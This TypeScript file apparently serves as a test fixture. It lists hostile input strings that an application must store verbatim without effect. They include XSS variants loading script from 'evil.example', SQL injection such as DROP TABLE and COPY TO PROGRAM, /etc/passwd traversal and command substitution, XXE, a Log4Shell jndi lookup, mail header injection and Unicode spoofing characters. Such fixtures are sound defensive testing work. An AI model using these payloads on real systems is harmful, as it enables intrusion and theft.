/** Texts of people who want a program to fail. Each must be kept to the letter and have no effect. */

const scripts = String.raw`
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.example/x.js></script>
<script>alert(1)//
<<script>alert(1);//<</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
\"><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type="module">import('//evil.example')</script>
<script type="speculationrules">{"prefetch":[{"urls":["//evil.example"]}]}</script>
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<img src="jav&#x09;ascript:alert(1);">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">go</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<video><source onerror="alert(1)">
<details open ontoggle=alert(1)>
<div popover id=x onbeforetoggle=alert(1)></div><button popovertarget=x>x</button>
<div style="background:url(javascript:alert(1))">
<style>@import'//evil.example/x.css';</style>
<style>*{background:url('//evil.example/?leak')}</style>
<form action="//evil.example"><input type=submit></form>
<button formaction="javascript:alert(1)">x</button>
<a href="javascript:alert(1)">x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<astro-island component-url="//evil.example/x.js"></astro-island>
javascript:alert(1)
" onmouseover="alert(1)
" autofocus onfocus=alert(1) x="
&lt;script&gt;alert(1)&lt;/script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
${'$'}{alert(1)}
{{constructor.constructor('alert(1)')()}}
#{7*7}
<%= 7*7 %>
{%25 raw %25}
{"__proto__":{"polluted":true}}
__proto__
[object Object]
undefined
`;

const queries = String.raw`
' OR '1'='1
' OR 1=1 --
'; DROP TABLE enquiries; --
' UNION SELECT ciphertext, key_id FROM enquiries --
1; ATTACH DATABASE '/etc/passwd' AS x; --
'; COPY enquiries TO PROGRAM 'id'; --
' || pg_sleep(10) --
admin'--
%' AND 1=0 UNION ALL SELECT 1 --
$1
:name
\'; DELETE FROM rate_limits; --
../../../../etc/passwd
file:///etc/passwd
| cat /etc/passwd
$(cat /etc/passwd)
=cmd|' /C calc'!A0
=HYPERLINK("//evil.example","x")
%s%s%s%n
(&(objectClass=*)(uid=*))
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
${'$'}{jndi:ldap://evil.example/a}
`;

const mails = [
  'x\r\nBcc: victim@evil.example',
  'x\nSubject: changed\n\nAnother body',
  '\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n',
  '.',
  '..\n.\n..',
  'From the start of a line\nFrom here on',
  '=?utf-8?B?PHNjcmlwdD4=?=',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  '=0D=0ABcc: victim@evil.example',
  `a line without an end ${'x'.repeat(2_000)}`,
];

const characters = [
  'bell \u0007, escape \u001b[31mred\u001b[0m, delete \u007f',
  'backspace \u0008\u0008\u0008, vertical tab \u000b, form feed \u000c',
  'tab\tand no-break\u00a0space and zero\u200bwidth',
  'next line \u0085, line separator \u2028, paragraph separator \u2029.',
  'right to left \u202egnp.exe\u202c and isolates \u2066abc\u2069',
  'byte order mark \ufeff in the middle',
  'not a character \ufffe \uffff and replacement \ufffd',
  'decomposed Cafe\u0301 and A\u030angstro\u0308m',
  'Z\u0351\u036e\u0301\u0302a\u0300\u0301\u0302l\u0334g\u0335o\u0336',
  'emoji 👩‍👩‍👧‍👦 🏴\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f} 🇬🇧 ✍🏽',
  'العربية עברית فارسی',
  '日本語 한국어 中文 ไทย हिन्दी ქართული',
  'astral \u{1d54f} \u{20000} \u{10ffff}',
  'Ω K Å ﬁ ½ ™',
  'ＦＵＬＬ ＷＩＤＴＨ ＜script＞',
  'İstanbul ß ẞ ǅ',
];

const lines = (text: string) => text.split('\n').filter((line) => line !== '');

/** There are more than a hundred, none with NUL or half a character, which are refused. */
export const hostileTexts: readonly string[] = [
  ...lines(scripts),
  ...lines(queries),
  ...mails,
  ...characters,
];
